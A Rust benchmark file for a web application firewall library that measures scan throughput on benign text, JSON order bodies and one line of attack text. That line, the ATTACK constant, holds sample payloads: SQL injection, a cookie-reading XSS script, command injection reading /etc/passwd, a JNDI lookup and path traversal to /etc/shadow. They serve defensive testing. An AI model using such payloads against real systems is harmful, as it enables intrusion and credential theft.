//! Engine throughput: MB/s of benign and attack text through one value scan, and
//! the per-request cost of a 1 KB JSON POST (head + body). Run with
//! `cargo bench -p rampart-waf --bench engine`.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use http::{HeaderMap, HeaderValue, Method};
use rampart_waf::{BodyScanner, Profile, ProfileConfig, RequestHead, inspect_head};
use std::hint::black_box;

const BENIGN: &str = "The quarterly report covers sales in Europe and Asia. Please select the right plan for your team, and note that O'Brien's order #A-10293 ships on Friday. Prices (incl. VAT) are listed at https://shop.example.com/pricing?plan=team&currency=EUR. ";
const ATTACK: &str = "1' UNION SELECT username, password FROM users-- <script>alert(document.cookie)</script> ;cat /etc/passwd ${jndi:ldap://x/a} ../../etc/shadow ";

fn body_1k() -> String {
    let mut s = String::from(
        "{\"order\":{\"id\":1042,\"customer\":{\"name\":\"Siobhán O'Brien\",\"email\":\"s.obrien@example.ie\"},\"items\":[",
    );
    let mut i = 0;
    while s.len() < 900 {
        s.push_str(&format!(
            "{{\"sku\":\"SKU-{i:04}\",\"qty\":{},\"note\":\"gift wrap, please\"}},",
            i % 3 + 1
        ));
        i += 1;
    }
    s.push_str("{\"sku\":\"SKU-LAST\",\"qty\":1}],\"comment\":\"Leave it with the neighbour if I'm out.\"}}");
    s
}

/// The body `bench/wrk/post-json.lua` sends through the daemon (the macro benchmark's
/// WAF-on/WAF-off ratio), kept byte-identical so the two figures can be compared.
fn body_wrk() -> String {
    let lua = include_str!("../../bench/wrk/post-json.lua");
    let start = lua.find("[[\n").expect("lua long string") + 3;
    let end = lua.find("]]").expect("lua long string end");
    lua[start..end].replace('\n', "")
}

/// 1024 variants of `body_wrk()` with a different customer each (as
/// bench/wrk/post-json-varied.lua does through the daemon), so the per-thread memo
/// of clean values cannot cover the free text.
fn bodies_varied() -> Vec<String> {
    const FIRST: &[&str] = &[
        "Aoife", "Jean-Luc", "Zoë", "Rahul", "Ngozi", "Tomasz", "Yuki", "Chloé",
    ];
    const LAST: &[&str] = &[
        "Nic Giolla Phádraig",
        "D'Arcy",
        "van der Berg",
        "Al-Sayed",
        "Müller",
        "Ó Briain",
        "Smith-Jones",
        "O'Neill",
    ];
    let base = body_wrk();
    (0..1024u32)
        .map(|i| {
            let (f, l) = (FIRST[i as usize % 8], LAST[(i as usize / 8) % 8]);
            base.replace(
                "ord_7f3a9c21",
                &format!("ord_{:08x}", i.wrapping_mul(2_654_435_761)),
            )
            .replace("Margaret O'Connell", &format!("{f} {l}"))
            .replace(
                "m.oconnell@example.org",
                &format!("{}.{}{i}@example.org", &f[..1], l.len()),
            )
            .replace("+353 1 555 0142", &format!("+353 {} 555 {:04}", i % 97, i))
            .replace(
                "14 Harbour View Road",
                &format!("{} Harbour View Road", i % 211),
            )
            .replace("number 16 if", &format!("number {i} if"))
            .replace(
                "love from all of us!",
                &format!("love from all {} of us!", i % 13 + 2),
            )
        })
        .collect()
}

fn bench(c: &mut Criterion) {
    let profile =
        Profile::compile("bench", &ProfileConfig::default()).expect("default profile compiles");
    let mut g = c.benchmark_group("text");
    for (name, unit) in [("benign", BENIGN), ("attack", ATTACK)] {
        let text = unit.repeat(64 * 1024 / unit.len());
        g.throughput(Throughput::Bytes(text.len() as u64));
        g.bench_function(name, |b| {
            let mut h = HeaderMap::new();
            h.insert("content-type", HeaderValue::from_static("text/plain"));
            let head = RequestHead {
                method: &Method::POST,
                path: "/",
                query: None,
                headers: &h,
                route: "r",
            };
            b.iter(|| {
                let s = BodyScanner::new(&profile, &head).expect("allowed type");
                black_box(s.finish(black_box(text.as_bytes())))
            })
        });
    }
    g.finish();

    let mut g = c.benchmark_group("request");
    for (name, body) in [("json_1k_post", body_1k()), ("json_wrk_order", body_wrk())] {
        g.throughput(Throughput::Bytes(body.len() as u64));
        g.bench_function(name, |b| {
            let mut h = HeaderMap::new();
            h.insert("content-type", HeaderValue::from_static("application/json"));
            h.insert("content-length", HeaderValue::from(body.len()));
            h.insert(
                "user-agent",
                HeaderValue::from_static(
                    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
                ),
            );
            h.insert(
                "cookie",
                HeaderValue::from_static("sid=5c274378416f3131c1d878ee28; theme=dark"),
            );
            let head = RequestHead {
                method: &Method::POST,
                path: "/api/v1/orders/1042",
                query: Some("expand=items&lang=en"),
                headers: &h,
                route: "r",
            };
            b.iter(|| {
                let v = inspect_head(&profile, &head);
                let mut s = BodyScanner::new(&profile, &head).expect("allowed type");
                let _ = s.feed(body.as_bytes());
                black_box((v, s.finish(black_box(body.as_bytes()))))
            })
        });
    }
    let varied = bodies_varied();
    g.throughput(Throughput::Bytes(varied[0].len() as u64));
    g.bench_function("json_order_varied", |b| {
        let mut h = HeaderMap::new();
        h.insert("content-type", HeaderValue::from_static("application/json"));
        let head = RequestHead {
            method: &Method::POST,
            path: "/api/orders",
            query: None,
            headers: &h,
            route: "r",
        };
        let mut i = 0;
        b.iter(|| {
            i = (i + 1) % varied.len();
            let body = varied[i].as_bytes();
            let v = inspect_head(&profile, &head);
            let mut s = BodyScanner::new(&profile, &head).expect("allowed type");
            let _ = s.feed(body);
            black_box((v, s.finish(black_box(body))))
        })
    });
    g.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(20).measurement_time(std::time::Duration::from_secs(3)).warm_up_time(std::time::Duration::from_secs(1));
    targets = bench
}
criterion_main!(benches);
